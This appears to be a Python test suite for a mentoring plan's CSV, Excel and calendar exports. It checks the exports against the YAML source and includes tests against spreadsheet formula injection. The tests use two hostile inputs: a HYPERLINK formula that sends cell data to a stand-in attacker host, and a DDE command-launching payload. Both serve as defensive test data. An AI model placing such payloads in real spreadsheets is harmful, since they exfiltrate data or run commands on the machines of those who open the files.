"""Plan exports, read back with real parsers and compared with content/plan.yaml."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
import yaml
from icalendar import Calendar

from mentoring.content import load_content
from mentoring.kinds.plan.progress import progress_of
from mentoring.kinds.plan.schedule import Occurrences, PartialDate
from mentoring.views.exports import COLUMNS, PlanExport, csv_cell
from tests.helpers import SNAPSHOT_CONTENT

BUILD_DAY = dt.date(2025, 11, 27)
HEADER = [title for title, _ in COLUMNS]


@pytest.fixture(scope="module")
def content():
    return load_content(SNAPSHOT_CONTENT)


@pytest.fixture(scope="module")
def export(content) -> PlanExport:
    return PlanExport(content, BUILD_DAY)


def plan_yaml_activities() -> list[dict]:
    """Activities straight from plan.yaml with a plain YAML parser, independent of the core."""
    data = yaml.safe_load((SNAPSHOT_CONTENT / "plan.yaml").read_text("utf-8"))
    found = []
    for direction in data["directions"]:
        head = f"{direction['id']}. {direction['title']}"
        for activity in direction.get("activities", []):
            found.append({**activity, "direction": head, "section": ""})
        for section in direction.get("sections", []):
            for activity in section["activities"]:
                found.append(
                    {
                        **activity,
                        "direction": head,
                        "section": f"{section['id']}. {section['title']}",
                    }
                )
    return found


def assert_rows_match_plan(rows: list[list[str]], content) -> None:
    expected = plan_yaml_activities()
    assert len(rows) == len(expected) == 20
    for row, raw in zip(rows, expected, strict=True):
        record = dict(zip(HEADER, row, strict=True))
        activity = content.plan.activity(raw["id"])
        progress = progress_of(activity, content.plan, BUILD_DAY)
        assert record["Направление"] == raw["direction"]
        assert record["Раздел"] == raw["section"]
        assert record["№"] == raw["id"]
        assert record["Мероприятие"] == raw["title"]
        assert record["Результат"] == raw["result"]
        assert record["Ответственные"] == ", ".join(raw["responsible"])
        assert record["Сроки"][:1].lower() + record["Сроки"][1:] == activity.schedule.text()
        assert record["Статус"] == progress.status_label
        assert record["Срок"] == progress.timing_label
        assert record["Примечание"] == (raw.get("note") or "")
        documents = {document.id: document for document in content.documents}
        for item in raw.get("evidence", []):
            title = documents[item["document"]].citation if "document" in item else item["title"]
            assert title in record["Исполнение"]


def test_csv_has_bom_semicolons_and_every_activity(export: PlanExport, content) -> None:
    data = export.csv_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADER
    assert_rows_match_plan(rows[1:], content)
    by_id = {row[2]: row for row in rows[1:]}
    assert by_id["1.1.2"][7] == "Выполнено"
    assert by_id["3.6"][5] == "Декабрь 2021, 2022 и 2023 гг."
    # As in the table, a sample that refers to an activity is listed but never passes for proof.
    sample_news = next(r for r in content.references_to("3.6") if r.sample)
    assert (
        f"Новость: {sample_news.title}, {sample_news.date:%d.%m.%Y} "
        "(образец оформления, не подтверждение)"
    ) in by_id["3.6"][9]


def test_xlsx_is_formatted_and_matches_the_csv(export: PlanExport, content) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes()))
    sheet = book.active
    assert sheet.title == "План мероприятий"
    assert sheet.freeze_panes == "A2"
    rows = [
        [cell if cell is not None else "" for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    assert rows[0] == HEADER
    assert_rows_match_plan(rows[1:], content)
    assert sheet["A1"].font.bold
    assert sheet["D2"].alignment.wrap_text
    assert sheet.column_dimensions["D"].width == 60
    assert book.properties.modified == dt.datetime(2025, 11, 27)


def test_exports_are_reproducible(content) -> None:
    first, second = PlanExport(content, BUILD_DAY), PlanExport(content, BUILD_DAY)
    assert first.xlsx_bytes() == second.xlsx_bytes()
    # Equal bytes within one second prove little: every stamp must be the build date.
    with zipfile.ZipFile(io.BytesIO(first.xlsx_bytes())) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2025, 11, 27, 0, 0, 0)}
        assert b"2025-11-27T00:00:00Z" in archive.read("docProps/core.xml")
    assert first.ics_bytes() == second.ics_bytes()
    assert first.csv_bytes() == second.csv_bytes()


def events_of(data: bytes) -> dict[str, object]:
    feed = Calendar.from_ical(data)
    return {str(event["uid"]): event for event in feed.walk("VEVENT")}


def test_calendar_has_dated_activities_only(export: PlanExport, content) -> None:
    events = events_of(export.ics_bytes())
    expected = {
        "1.1.1": (dt.date(2021, 10, 4), dt.date(2021, 10, 10)),
        "1.1.2": (dt.date(2021, 10, 1), dt.date(2021, 10, 5)),
        "1.2.1": (dt.date(2021, 10, 4), dt.date(2021, 10, 10)),
        "1.3.1": (dt.date(2021, 10, 20), dt.date(2021, 12, 3)),
        "2.1": (dt.date(2021, 11, 2), dt.date(2021, 11, 21)),
        "2.2": (dt.date(2021, 11, 2), dt.date(2021, 11, 21)),
        "3.1": (dt.date(2021, 10, 7), dt.date(2024, 12, 26)),
        "3.2": (dt.date(2021, 11, 1), dt.date(2024, 5, 1)),
        "3.4": (dt.date(2022, 11, 30), dt.date(2022, 12, 1)),  # до декабря 2022 г.
        "3.6": (dt.date(2021, 12, 1), dt.date(2022, 1, 1)),
        "5.3": (dt.date(2022, 1, 15), dt.date(2022, 1, 16)),  # до 15.01.2022, далее ежегодно
    }
    got = {}
    for uid, event in events.items():
        activity_id = uid.removeprefix("activity-").split("@")[0].replace("-", ".")
        got[activity_id] = (event.decoded("dtstart"), event.decoded("dtend"))
        activity = content.plan.activity(activity_id)
        assert str(event["summary"]).endswith(f"{activity.id}. {activity.title}")
        assert event.decoded("dtstamp") == dt.datetime(2025, 11, 27, tzinfo=dt.UTC)
        assert uid == f"{activity.anchor}@mentoring-plan.invalid"
    assert got == expected
    assert str(events["activity-3-4@mentoring-plan.invalid"]["summary"]).startswith("Срок: ")


def test_repeated_months_are_one_event_with_rdates(export: PlanExport) -> None:
    event = events_of(export.ics_bytes())["activity-3-6@mentoring-plan.invalid"]
    rdates = [d.dt for d in event["rdate"].dts]
    assert rdates == [dt.date(2022, 12, 1), dt.date(2023, 12, 1)]


def test_months_of_different_length_become_separate_events(content) -> None:
    activity = content.plan.activity("3.6")
    months = (PartialDate(2022, 2), PartialDate(2022, 3))
    changed = dataclasses.replace(activity, schedule=Occurrences(months))
    direction = content.plan.directions[2]
    directions = list(content.plan.directions)
    directions[2] = dataclasses.replace(
        direction,
        activities=tuple(changed if a.id == "3.6" else a for a in direction.activities),
    )
    plan = dataclasses.replace(content.plan, directions=tuple(directions))
    export = PlanExport(dataclasses.replace(content, plan=plan), BUILD_DAY)
    events = events_of(export.ics_bytes())
    february = events["activity-3-6-2022-02@mentoring-plan.invalid"]
    march = events["activity-3-6-2022-03@mentoring-plan.invalid"]
    assert (february.decoded("dtstart"), february.decoded("dtend")) == (
        dt.date(2022, 2, 1),
        dt.date(2022, 3, 1),
    )
    assert (march.decoded("dtstart"), march.decoded("dtend")) == (
        dt.date(2022, 3, 1),
        dt.date(2022, 4, 1),
    )


def test_site_url_gives_links_and_host_uids(content) -> None:
    export = PlanExport(content, BUILD_DAY, "https://cro.example.org/nastavnichestvo/")
    events = events_of(export.ics_bytes())
    event = events["activity-1-1-1@cro.example.org"]
    link = "https://cro.example.org/nastavnichestvo/plan/#activity-1-1-1"
    assert str(event["url"]) == link
    assert f"Подробнее: {link}" in str(event["description"])
    rows = list(csv.reader(io.StringIO(export.csv_bytes().decode("utf-8-sig")), delimiter=";"))
    approval = next(row for row in rows if row[2] == "1.1.2")
    order = next(d for d in content.documents if d.id == "goruno-175-1-1-08")
    assert approval[9] == (
        f"{order.citation} (https://cro.example.org/nastavnichestvo/documents/#{order.anchor})"
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+7 (496) 212-00-00", "'+7 (496) 212-00-00"),
        ("-2+3", "'-2+3"),
        ("- пункт", "'- пункт"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),
        ("-2,5", "-2,5"),
        ("+10", "+10"),
        ("1.1.1", "1.1.1"),
        ("Семинар = встреча", "Семинар = встреча"),
        ("", ""),
    ],
)
def test_csv_cells_that_excel_would_run_as_formulas_become_text(value, cell) -> None:
    assert csv_cell(value) == cell


def _with_activity_text(content, title: str, result: str):
    """The content with activity 1.1.1 renamed, as an author could write it in plan.yaml."""
    directions = list(content.plan.directions)
    first = directions[0]
    sections = list(first.sections)
    section = sections[0]
    activities = tuple(
        dataclasses.replace(a, title=title, result=result) if a.id == "1.1.1" else a
        for a in section.activities
    )
    sections[0] = dataclasses.replace(section, activities=activities)
    directions[0] = dataclasses.replace(first, sections=tuple(sections))
    plan = dataclasses.replace(content.plan, directions=tuple(directions))
    return dataclasses.replace(content, plan=plan)


FORMULA = "=cmd|' /C calc'!A0"


def test_csv_never_starts_a_cell_with_a_formula(content) -> None:
    export = PlanExport(_with_activity_text(content, FORMULA, "-5"), BUILD_DAY)
    rows = list(csv.reader(io.StringIO(export.csv_bytes().decode("utf-8-sig")), delimiter=";"))
    row = next(row for row in rows if row[2] == "1.1.1")
    assert (row[3], row[4]) == ("'" + FORMULA, "-5")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)


def test_xlsx_cells_are_text_never_formulas(content) -> None:
    export = PlanExport(_with_activity_text(content, FORMULA, "@SUM(A1)"), BUILD_DAY)
    data = export.xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == "1.1.1")
    assert (row[3].value, row[3].data_type) == (FORMULA, "s")
    assert (row[4].value, row[4].data_type) == ("@SUM(A1)", "s")
    assert {cell.data_type for r in sheet.iter_rows() for cell in r if cell.value} == {"s"}
